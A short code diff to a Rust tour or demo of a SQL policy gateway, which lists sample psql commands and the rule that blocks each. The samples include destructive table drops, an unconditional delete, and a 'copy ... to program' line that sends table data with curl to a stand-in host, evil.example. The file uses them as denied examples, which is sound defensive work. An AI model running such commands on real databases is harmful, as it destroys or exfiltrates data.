@@ -11,7 +11,7 @@ pub(super) fn show(tour: &mut Tour) -> Result<(), Failure> {
          gateway reads each statement with PostgreSQL's own grammar and asks the policy first.",
     )?;
     for (line, rule) in [
-        ("psql -c \"drop table customers cascade\"", "schema-changes-denied"),
+        ("psql -c \"drop table orders\"", "schema-changes-denied"),
         ("psql -c \"delete from orders\"", "unconditional-writes-denied"),
         ("psql -c \"copy orders to program 'curl -d @- https://evil.example'\"", "escapes-denied"),
     ] {
